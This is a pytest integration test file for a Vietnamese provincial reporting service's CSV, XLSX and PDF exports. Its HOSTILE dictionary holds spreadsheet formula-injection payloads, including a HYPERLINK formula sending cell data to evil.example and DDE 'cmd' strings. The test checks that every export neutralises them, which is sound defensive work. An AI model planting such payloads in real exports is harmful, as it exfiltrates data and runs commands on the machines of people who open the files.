"""Exports a province can sign (issue #15) and that cannot run code (issue #12), on real PostgreSQL.

- the register's CSV and XLSX hold every row of the filter (10,500 rows here), whatever ``limit``
  says, while JSON keeps paging;
- text that a spreadsheet would take for a formula is neutralised in every CSV and XLSX;
- Biểu 06, the ISO QMS report and the Decision 766 report as printed forms: XLSX read back with
  openpyxl (header, footer, formats, page set-up), PDF rendered with poppler (pdftoppm, pdftotext).
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from collections.abc import AsyncIterator
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import asyncpg
import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from services.reporting.handlers import handle_registry_changes
from shared.db import create_pool
from tests.integration.test_reporting_service import (
    APRIL,
    COMMUNE_A,
    DEPARTMENT,
    PROVINCE,
    TZ,
    change,
    client,
    http_app,
    load,
)

pytestmark = pytest.mark.integration

REGISTER_ROWS = 10_500


@pytest.fixture
async def pool(database: str) -> AsyncIterator[asyncpg.Pool]:
    p = await create_pool(database)
    yield p
    await p.close()


CODES = ("LATE", "OVERDUE", "STEP_LATE")


async def fill_register(pool: asyncpg.Pool) -> None:
    """10,500 nonconformities in March 2025 (code by i mod 3, every 7th closed) and 50 in April."""
    await pool.execute(
        """
        INSERT INTO reporting.nonconformities
            (dossier_code, seq, agency_code, procedure_code, code, clause, status, detected_at, detail)
        SELECT $1 || '-250301-' || lpad(i::text, 5, '0'), 0, $1, '1.004845', ($2::text[])[i % 3 + 1], '8.7',
               CASE WHEN i % 7 = 0 THEN 'closed' ELSE 'open' END,
               $3::timestamptz + (i || ' minutes')::interval, 'row ' || i
        FROM generate_series(1, $4) AS i
        UNION ALL
        SELECT $1 || '-250401-' || lpad(i::text, 5, '0'), 0, $1, '1.004845', 'LATE', '8.7', 'open',
               $5::timestamptz + (i || ' minutes')::interval, 'april ' || i
        FROM generate_series(1, 50) AS i
        """,
        DEPARTMENT,
        list(CODES),
        datetime(2025, 3, 1, 0, 0, tzinfo=TZ),
        REGISTER_ROWS,
        datetime(2025, 4, 2, 0, 0, tzinfo=TZ),
    )


def csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


async def test_register_exports_hold_every_row_whatever_the_limit(pool: asyncpg.Pool, database: str) -> None:
    await load(pool)
    await fill_register(pool)
    expected_late = sum(1 for i in range(1, REGISTER_ROWS + 1) if CODES[i % 3] == "LATE")
    async with client(http_app(pool, database, APRIL)) as c:
        params = {"period": "2025-03", "agency": DEPARTMENT}
        page = (await c.get("/api/v1/reports/nonconformities", params=params | {"limit": 5})).json()
        as_csv = await c.get("/api/v1/reports/nonconformities", params=params | {"format": "csv", "limit": 5})
        as_xlsx = await c.get(
            "/api/v1/reports/nonconformities", params=params | {"format": "xlsx", "limit": 5, "offset": 7}
        )
        late_csv = await c.get(
            "/api/v1/reports/nonconformities", params=params | {"format": "csv", "code": "LATE"}
        )
    # JSON pages; the department's own March findings from the fixture add to the 10,500
    own = page["total"] - REGISTER_ROWS
    assert len(page["items"]) == 5 and own >= 0

    assert as_csv.status_code == 200 and as_csv.headers["content-type"].startswith("text/csv")
    assert "attachment" in as_csv.headers["content-disposition"]
    lines = csv_rows(as_csv.content)
    assert lines[0][:3] == ["Thời điểm phát hiện", "Mã hồ sơ", "Cơ quan"]
    body = lines[1:]
    assert len(body) == page["total"]
    generated = [r for r in body if "-250301-" in r[1]]
    assert len(generated) == REGISTER_ROWS
    assert len({r[1] for r in generated}) == REGISTER_ROWS
    assert not any("-250401-" in r[1] for r in body)  # April's are outside the period
    assert {r[2] for r in generated} == {"Sở Tư pháp"}  # names, not codes
    # newest first, dates as a Vietnamese reader writes them
    assert generated[0][0] == (datetime(2025, 3, 1, tzinfo=TZ) + timedelta(minutes=REGISTER_ROWS)).strftime(
        "%d/%m/%Y %H:%M"
    )
    assert len([r for r in csv_rows(late_csv.content)[1:] if "-250301-" in r[1]]) == expected_late

    assert as_xlsx.status_code == 200
    ws = load_workbook(io.BytesIO(as_xlsx.content), read_only=True)["Sổ theo dõi sự không phù hợp"]
    values = list(ws.iter_rows(min_row=5, values_only=True))
    assert len(values) == page["total"]
    first = next(v for v in values if "-250301-" in str(v[1]))
    assert first[0] == datetime(2025, 3, 1) + timedelta(minutes=REGISTER_ROWS)  # a date cell, local time


HOSTILE = {
    "agency": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "procedure": "+cmd|' /C calc'!A0",
    "detail": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


async def hostile_names(pool: asyncpg.Pool) -> None:
    ctx = await load(pool)
    await handle_registry_changes(
        ctx,
        [
            change(
                "agency",
                DEPARTMENT,
                2,
                {
                    "code": DEPARTMENT,
                    "name": HOSTILE["agency"],
                    "parent_code": PROVINCE,
                    "level": "department",
                    "iso_obligation": "mandatory",
                },
            ),
            change(
                "procedure",
                "1.004845",
                2,
                {
                    "code": "1.004845",
                    "name": HOSTILE["procedure"],
                    "field": HOSTILE["minus"],
                    "statutory_time": {"value": "2", "unit": "working_days"},
                },
            ),
        ],
    )
    await pool.execute(
        """
        INSERT INTO reporting.nonconformities
            (dossier_code, seq, agency_code, procedure_code, code, clause, status, detected_at, detail,
             corrective_action)
        VALUES ($1, 0, $2, '1.004845', 'LATE', '8.7', 'open', $3, $4, $5),
               ($1, 1, $2, '1.004845', 'LATE', '8.7', 'open', $3, $6, $7)
        """,
        f"{DEPARTMENT}-250310-0099",
        DEPARTMENT,
        datetime(2025, 3, 10, 9, tzinfo=TZ),
        HOSTILE["detail"],
        HOSTILE["tab"],
        HOSTILE["cr"],
        HOSTILE["minus"],
    )


TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def formula_cells(ws: Worksheet) -> list[str]:
    return [f"{c.coordinate}={c.value!r}" for row in ws.iter_rows() for c in row if c.data_type == "f"]


async def test_formula_text_is_neutralised_in_every_export(pool: asyncpg.Pool, database: str) -> None:
    await hostile_names(pool)
    reports = ("form06", "qms-status", "indicators", "nonconformities")
    async with client(http_app(pool, database, APRIL)) as c:
        got = {
            (name, fmt): await c.get(f"/api/v1/reports/{name}", params={"period": "2025-03", "format": fmt})
            for name in reports
            for fmt in ("csv", "xlsx")
        }
    hostile = set(HOSTILE.values())
    seen_csv: set[str] = set()
    for (name, fmt), r in got.items():
        assert r.status_code == 200, (name, fmt, r.text)
        if fmt == "csv":
            cells = [cell for row in csv_rows(r.content) for cell in row]
            assert not [c for c in cells if c.startswith(TRIGGERS)], name
            seen_csv |= {c[1:] for c in cells if c.startswith("'") and c[1:] in hostile}
            continue
        wb = load_workbook(io.BytesIO(r.content))
        for ws in wb.worksheets:
            assert formula_cells(ws) == [], (name, ws.title)
            for row in ws.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS):
                        assert cell.data_type == "s" and cell.quotePrefix, (name, cell.coordinate)
    # each hostile text reached some CSV, behind an apostrophe (the register carries all of them)
    assert seen_csv == hostile
    register = load_workbook(io.BytesIO(got[("nonconformities", "xlsx")].content)).active
    assert register is not None
    texts = {c.value for row in register.iter_rows() for c in row if isinstance(c.value, str)}
    # kept as written, as text (XML reads a stored carriage return back as a line feed)
    assert {h.replace("\r", "\n") for h in hostile} <= texts
    form = load_workbook(io.BytesIO(got[("form06", "xlsx")].content))["Theo cơ quan"]
    names = [form.cell(row=r, column=2) for r in range(10, form.max_row + 1)]
    cell = next(c for c in names if c.value == HOSTILE["agency"])
    assert cell.data_type == "s" and cell.quotePrefix


# --- printed forms ----------------------------------------------------------------------------


def text_of(ws: Worksheet) -> list[str]:
    return [str(c.value) for row in ws.iter_rows() for c in row if c.value is not None]


async def test_form06_xlsx_is_the_printed_form(pool: asyncpg.Pool, database: str) -> None:
    await load(pool)
    app = http_app(
        pool,
        database,
        APRIL,
        reporting_place="Cần Thơ",
        reporting_receiver_form06="Văn phòng UBND thành phố Cần Thơ",
    )
    async with client(app) as c:
        whole = await c.get("/api/v1/reports/form06", params={"period": "2025-03", "format": "xlsx"})
        one = await c.get(
            "/api/v1/reports/form06",
            params={"period": "2025-Q1", "format": "xlsx", "agency": COMMUNE_A, "calendar": "statutory"},
        )
    wb = load_workbook(io.BytesIO(whole.content))
    assert wb.sheetnames == ["Biểu 06", "Theo cơ quan"]
    ws = wb["Biểu 06"]
    assert ws["A1"].value == "Biểu số 06/VPCP/KSTT"
    assert ws["A2"].value.startswith("TÌNH HÌNH, KẾT QUẢ GIẢI QUYẾT THỦ TỤC HÀNH CHÍNH")
    assert (
        ws["A3"].value == "Kỳ báo cáo: tháng 03/2025 (kỳ theo lịch) (từ ngày 01/03/2025 đến ngày 31/03/2025)"
    )
    assert ws["A4"].value == "Đơn vị báo cáo: Ủy ban nhân dân tỉnh"  # the whole province: the setting
    assert ws["A5"].value == "Đơn vị nhận báo cáo: Văn phòng UBND thành phố Cần Thơ"
    assert "Ngày lập báo cáo: 10/04/2025" in text_of(ws)
    # the headings, the totals line with integer formats
    assert ws["C6"].value == "Số hồ sơ nhận giải quyết" and ws["G6"].value == "Kết quả giải quyết"
    assert {str(r) for r in ws.merged_cells.ranges} >= {"A6:A8", "C6:F6", "G6:M6", "D7:F7", "A2:M2"}
    assert [ws.cell(row=9, column=c).value for c in (1, 2, 13)] == ["(1)", "(2)", "(13)"]
    assert ws["B10"].value == "TỔNG CỘNG"
    assert [ws.cell(row=10, column=c).value for c in range(3, 14)] == [7, 1, 3, 3, 5, 2, 1, 2, 1, 0, 1]
    assert {ws.cell(row=10, column=c).number_format for c in range(3, 14)} == {"#,##0"}
    # the footer: date line and signature block under the table
    texts = text_of(ws)
    assert "Cần Thơ, ngày 10 tháng 04 năm 2025" in texts
    assert {"NGƯỜI LẬP BIỂU", "THỦ TRƯỞNG ĐƠN VỊ", "(Ký tên, đóng dấu)"} <= set(texts)
    last_data = max(r for r in range(10, ws.max_row + 1) if isinstance(ws.cell(row=r, column=3).value, int))
    sign_row = next(r for r in range(1, ws.max_row + 1) if ws.cell(row=r, column=2).value == "NGƯỜI LẬP BIỂU")
    assert sign_row > last_data
    # page set-up: A4 landscape, one page wide, the heading rows on every page
    for sheet in wb.worksheets:
        assert sheet.page_setup.orientation == "landscape"
        assert sheet.page_setup.paperSize == 9
        assert sheet.page_setup.fitToWidth == 1 and sheet.page_setup.fitToHeight == 0
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.print_title_rows == "$6:$9"
        assert sheet.oddFooter.center.text == "Trang &P/&N"
    by_agency = wb["Theo cơ quan"]
    assert "Sở Tư pháp" in text_of(by_agency)  # names, not codes
    assert DEPARTMENT not in text_of(by_agency)

    commune = load_workbook(io.BytesIO(one.content))["Biểu 06"]
    assert commune["A3"].value == (
        "Kỳ báo cáo: quý I năm 2025 (kỳ báo cáo theo quy định) (từ ngày 15/12/2024 đến ngày 14/03/2025)"
    )
    assert commune["A4"].value == "Đơn vị báo cáo: UBND phường An Hòa"


async def test_qms_and_766_xlsx_by_level_with_vietnamese_formats(pool: asyncpg.Pool, database: str) -> None:
    ctx = await load(pool)
    qms = [
        change("qms", PROVINCE, 1, {"agency_code": PROVINCE, "state": "announced"}),
        change("qms", DEPARTMENT, 1, {"agency_code": DEPARTMENT, "state": "updating"}),
        change("qms", COMMUNE_A, 1, {"agency_code": COMMUNE_A, "state": "announced"}),
    ]
    await handle_registry_changes(ctx, qms)
    async with client(http_app(pool, database, APRIL)) as c:
        q = await c.get("/api/v1/reports/qms-status", params={"period": "2025", "format": "xlsx"})
        q_json = (await c.get("/api/v1/reports/qms-status", params={"period": "2025"})).json()
        ind = await c.get("/api/v1/reports/indicators", params={"period": "2025-03", "format": "xlsx"})
        ind_csv = await c.get("/api/v1/reports/indicators", params={"period": "2025-03", "format": "csv"})
    # the registry: province + department mandatory, two communes encouraged; 3 announced
    mandatory_json, encouraged_json = (q_json["by_obligation"][k] for k in ("mandatory", "encouraged"))
    keys = ("total", "announced", "updating_or_expanding", "reviewing")
    assert [mandatory_json[k] for k in keys] == [2, 2, 1, 1]  # the department is updating its scope
    assert [encouraged_json[k] for k in keys] == [2, 1, 0, 0]
    wb = load_workbook(io.BytesIO(q.content))
    assert wb.sheetnames == ["Tình hình áp dụng HTQLCL", "Mục tiêu chất lượng"]
    ws = wb["Tình hình áp dụng HTQLCL"]
    assert ws["A3"].value == "Kỳ báo cáo: năm 2025 (kỳ theo lịch) (từ ngày 01/01/2025 đến ngày 31/12/2025)"
    assert ws["A5"].value == "Đơn vị nhận báo cáo: Sở Khoa học và Công nghệ"
    rows = {ws.cell(row=r, column=2).value: r for r in range(7, ws.max_row + 1)}
    total, mandatory, encouraged = (
        rows["TỔNG CỘNG"],
        rows["Cơ quan thuộc diện bắt buộc áp dụng"],
        rows["Cơ quan khuyến khích áp dụng"],
    )
    assert [ws.cell(row=total, column=c).value for c in (3, 4)] == [4, 3]
    assert ws.cell(row=total, column=5).value == pytest.approx(0.75)
    assert ws.cell(row=total, column=5).number_format == "0.0%"  # 75,0 % in a Vietnamese Excel
    assert [ws.cell(row=mandatory, column=c).value for c in (3, 4, 6)] == [2, 2, 1]
    assert [ws.cell(row=encouraged, column=c).value for c in (3, 4)] == [2, 1]

    sheet = load_workbook(io.BytesIO(ind.content))["Chỉ số QĐ 766"]
    labels = {sheet.cell(row=r, column=2).value: r for r in range(7, sheet.max_row + 1)}
    dept = labels["Sở Tư pháp"]
    assert sheet.cell(row=dept, column=5).value == 2 / 3 or sheet.cell(
        row=dept, column=5
    ).value == pytest.approx(0.6667)
    total_row = labels["TỔNG CỘNG"]
    assert sheet.cell(row=total_row, column=7).value == pytest.approx(0.6)
    assert sheet.cell(row=total_row, column=7).number_format == "0.0%"
    assert sheet.cell(row=total_row, column=9).number_format == "#,##0.00"
    assert {"Sở, ban, ngành cấp tỉnh", "Cấp xã"} <= set(labels)
    text = ind_csv.content.decode("utf-8-sig")
    assert "60,0 %" in text and "0.6" not in text.split("\r\n")[-2]  # rates as 60,0 %, not 0.6


def poppler(tool: str) -> str:
    path = shutil.which(tool)
    assert path, f"{tool} is missing: `make pdftools` installs Debian's poppler-utils"
    return path


def render(body: bytes, folder: Path) -> tuple[int, str]:
    """(pages pdftoppm renders to PNG, the text pdftotext reads) of a PDF."""
    pdf = folder / "form.pdf"
    pdf.write_bytes(body)
    subprocess.run([poppler("pdftoppm"), "-png", "-r", "40", str(pdf), str(folder / "page")], check=True)
    pngs = sorted(folder.glob("page*.png"))
    assert all(p.stat().st_size > 1000 for p in pngs)  # pages with something drawn on them
    text = subprocess.run(
        [poppler("pdftotext"), "-layout", str(pdf), "-"], check=True, capture_output=True, text=True
    ).stdout
    return len(pngs), text


@pytest.mark.parametrize(
    ("report", "params", "title", "pages"),
    [
        ("form06", {"period": "2025-03"}, "TÌNH HÌNH, KẾT QUẢ GIẢI QUYẾT THỦ TỤC HÀNH CHÍNH", 2),
        ("qms-status", {"period": "2025"}, "HỆ THỐNG QUẢN LÝ CHẤT LƯỢNG", 2),
        ("indicators", {"period": "2025-03"}, "QUYẾT ĐỊNH 766/QĐ-TTg", 1),
    ],
)
async def test_pdf_forms_render_with_their_title(
    pool: asyncpg.Pool,
    database: str,
    tmp_path: Path,
    report: str,
    params: dict[str, Any],
    title: str,
    pages: int,
) -> None:
    await load(pool)
    async with client(http_app(pool, database, APRIL, reporting_place="Cần Thơ")) as c:
        r = await c.get(f"/api/v1/reports/{report}", params=params | {"format": "pdf"})
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "application/pdf"
    rendered, text = render(r.content, tmp_path)
    assert rendered == pages
    flat = " ".join(text.split())
    assert title in flat
    assert "Cần Thơ, ngày 10 tháng 04 năm 2025" in flat
    assert "THỦ TRƯỞNG ĐƠN VỊ" in flat and "Đơn vị nhận báo cáo" in flat
